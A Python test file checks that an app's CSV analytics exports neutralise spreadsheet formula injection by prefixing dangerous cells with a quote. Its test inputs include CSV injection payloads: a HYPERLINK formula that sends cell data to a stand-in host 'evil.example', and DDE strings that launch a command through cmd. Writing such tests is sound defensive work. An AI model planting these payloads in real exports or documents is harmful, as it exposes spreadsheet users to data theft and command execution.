"""CSV downloads open safely in a spreadsheet: a cell that would start a formula is written as
text (a leading single quote, as OWASP advises), everything else exactly as stored."""

from __future__ import annotations

import csv
import io

import pytest

from tests.factories import IssueFactory, ResponseFactory, request_with_suggestions

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "+1 555 0100 refund",
    "-2+3 cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def dangerous_titles():
    for number, title in enumerate([*FORMULAS, "Lost baggage"]):
        response = ResponseFactory(
            issue=IssueFactory(key=f"issue-{number}", title=title), key=f"reply-{number}"
        )
        request_with_suggestions([response])


def _cells(answer, column: str) -> list[str]:
    header, *rows = list(csv.reader(io.StringIO(answer.content.decode(), newline="")))
    return sorted(row[header.index(column)] for row in rows)


@pytest.mark.parametrize("url", ["/api/v1/analytics/responses.csv", "/api/v1/analytics/issues.csv"])
def test_a_cell_that_would_start_a_formula_is_written_as_text(dangerous_titles, editor_client, url):
    answer = editor_client.get(url)

    assert answer.status_code == 200
    assert _cells(answer, "issue_title") == sorted(["'" + title for title in FORMULAS] + ["Lost baggage"])
    assert _cells(answer, "suggested") == ["1"] * 7  # numbers stay numbers
